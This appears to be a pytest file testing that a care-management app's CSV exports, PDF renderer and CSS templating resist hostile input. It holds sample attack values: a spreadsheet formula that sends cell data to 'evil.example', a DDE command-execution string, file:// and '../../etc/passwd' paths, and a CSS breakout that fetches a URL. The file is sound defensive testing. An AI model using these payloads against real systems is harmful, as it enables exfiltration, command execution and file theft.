"""What ccm writes out holds against hostile values: every CSV neutralises formulas (OWASP's
rule), the PDF renderer fetches nothing but our static files, and a value printed inside a
CSS string stays text."""

import csv
import datetime as dt
import io
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer

import pytest
from django.template import Context, Template
from django_scopes import scopes_disabled
from test_audit import add_patient

from ccm.csvout import SafeWriter, safe_cell, unquote_cell
from ccmweb.billing import testdata
from ccmweb.billing.services import close_month
from ccmweb.careplans import testdata as plans
from ccmweb.pdf import RefusedURL, render_pdf, static_file

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "\tTab",
    "\rCR",
]


def test_safe_cell_follows_owasps_rule_and_leaves_numbers_alone():
    for value in FORMULAS:
        assert safe_cell(value) == "'" + value
        assert unquote_cell(safe_cell(value)) == value
    for value in ("Roe", "-12.50", "+3", "42", 7, None, "O'Brien", "'quoted"):
        assert safe_cell(value) == value
    out = io.StringIO()
    SafeWriter(out).writerow(["=1+1", "ok", -5])
    assert out.getvalue().strip() == "'=1+1,ok,-5"


@pytest.fixture
def formula_patient(cast):  # type: ignore[no-untyped-def]
    with scopes_disabled():
        patient = cast.acme.patient
        patient.family_name, patient.given_name = FORMULAS[0], FORMULAS[1]
        patient.save()
        testdata.billable_month(cast.acme, minutes=45)
        close_month(cast.acme.north, testdata.MONTH, now=dt.datetime(2026, 4, 2, 9, tzinfo=dt.UTC))
    return patient


def test_the_claims_csv_neutralises_a_patient_named_as_a_formula(formula_patient, cast, login):
    response = login(cast.acme.biller).post(
        "/billing/claims/export/",
        {"practice": str(cast.acme.north.uid), "month": "2026-03", "format": "csv"},
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows and rows[0]["patient_family_name"] == "'" + FORMULAS[0]
    assert rows[0]["patient_given_name"] == "'@SUM(1+1)"
    assert rows[0]["charge"][0].isdigit()


def test_the_outreach_csv_neutralises_a_patient_named_as_a_formula(cast, login):
    with scopes_disabled():
        patient = add_patient(cast.acme, "FORM", codes=["E11.9", "I10"])
        patient.family_name = "=cmd|' /C calc'!A0"
        patient.save()
    client, where = (
        login(cast.acme.admin),
        {"month": "2026-03", "practice": str(cast.acme.north.uid)},
    )
    client.post("/imports/audit/recompute/", where)  # the stored result the CSV reads
    response = client.get("/imports/audit/outreach.csv", where)
    text = b"".join(response.streaming_content).decode()
    names = [row["name"] for row in csv.DictReader(io.StringIO(text))]
    assert any(name.startswith("'=cmd|") for name in names), names
    assert not any(name.startswith(("=", "+", "@")) for name in names)


class _Listener(BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
        self.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/css")
        self.end_headers()
        self.wfile.write(b"body { color: red }")

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def listener():  # type: ignore[no-untyped-def]
    """A local HTTP server that records every request a renderer makes to it."""
    server = HTTPServer(("127.0.0.1", 0), _Listener)
    _Listener.hits = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", _Listener.hits
    server.shutdown()


def test_the_pdf_renderer_fetches_no_url_and_no_file(listener, tmp_path):
    base, hits = listener
    secret = tmp_path / "secret.txt"
    secret.write_text("server secret")
    html = (
        f'<html><head><link rel="stylesheet" href="{base}/a.css"></head><body>'
        f'<img src="{base}/b.png"><img src="file://{secret}">'
        f'<iframe src="file://{secret}"></iframe><p>ok</p></body></html>'
    )
    assert render_pdf(html).startswith(b"%PDF")
    assert hits == []
    for url in (f"{base}/a.css", f"file://{secret}", "https://ccm.invalid/static/../../etc/passwd"):
        with pytest.raises(RefusedURL):
            static_file(url)
    body, mime = static_file("https://ccm.invalid/static/ccm/ccm.css")
    assert body and mime == "text/css"


def test_a_practice_name_cannot_break_out_of_the_patient_copys_css(cast, login, listener):
    base, hits = listener
    with scopes_disabled():
        practice = cast.acme.north
        practice.branding_name = f'Clinic"\n}} body {{ background: url({base}/x.png) }} x {{ a: "'
        practice.save()
        version = plans.signed_version(cast.acme)
    client = login(cast.acme.practitioner.user)
    pdf = client.get(f"/careplans/version/{version.uid}/patient-copy.pdf")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    assert hits == []  # the name broke out of the CSS string and the renderer fetched it


def test_css_string_leaves_only_text_in_a_css_string():
    rendered = Template('content: "{{ name|css_string }}";').render(
        Context({"name": 'A & B "Clinic"\n} @import url(x); \\ é'})
    )
    assert rendered == (
        'content: "A \\26  B \\22 Clinic\\22 \\a \\7d  \\40 import url\\28 x\\29 \\3b  \\5c  \\e9 ";'
    )
